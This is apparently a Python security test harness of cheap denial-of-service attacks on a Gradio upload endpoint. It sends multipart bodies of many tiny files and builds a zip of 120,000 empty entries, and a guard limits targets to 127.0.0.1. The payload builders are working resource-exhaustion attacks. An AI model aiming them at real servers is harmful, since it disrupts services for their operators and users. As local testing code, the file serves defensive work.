"""Attacks that cost who makes them next to nothing, against a page on this machine's loopback.

All of them are bounded in count and time, and come from one address. Each tells what it got.
"""

from __future__ import annotations

import io
import secrets
import zipfile
from urllib.parse import urlsplit

import httpx

NAMED, ENTRIES = 60, 120_000
TINY_BYTES = 8


def only_here(address: str) -> str:
    """The address of a page, which must be on this machine.

    Raises:
        ValueError: if it is not; nobody else is ever attacked.
    """
    if urlsplit(address).hostname != "127.0.0.1":
        raise ValueError(f"Only a page on 127.0.0.1 is attacked; got {address}.")
    return address


def tiny_files(count: int) -> tuple[bytes, str]:
    """A multipart body of so many files of eight bytes, no two alike, and its boundary."""
    boundary = secrets.token_hex(8)
    head = f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="%d"\r\n\r\n'
    parts = [(head % k).encode() + secrets.token_bytes(TINY_BYTES) + b"\r\n" for k in range(count)]
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), boundary


def send_tiny_files(address: str, bodies: int, count: int, own: str) -> list[int]:
    """Send so many such bodies from the address ``own``; returns the status of each answer."""
    transport = httpx.HTTPTransport(local_address=own)
    statuses: list[int] = []
    with httpx.Client(base_url=only_here(address), transport=transport, timeout=60) as client:
        for _ in range(bodies):
            body, boundary = tiny_files(count)
            headers = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
            try:
                answer = client.post("gradio_api/upload", content=body, headers=headers)
                statuses.append(answer.status_code)
            except httpx.TransportError:  # cut off in the middle
                statuses.append(0)
    return statuses


def zip_of_nothing() -> bytes:
    """Of `ENTRIES` empty files, in a few megabytes."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for number in range(ENTRIES):
            archive.writestr(f"{number}.npz", b"")
    return file.getvalue()
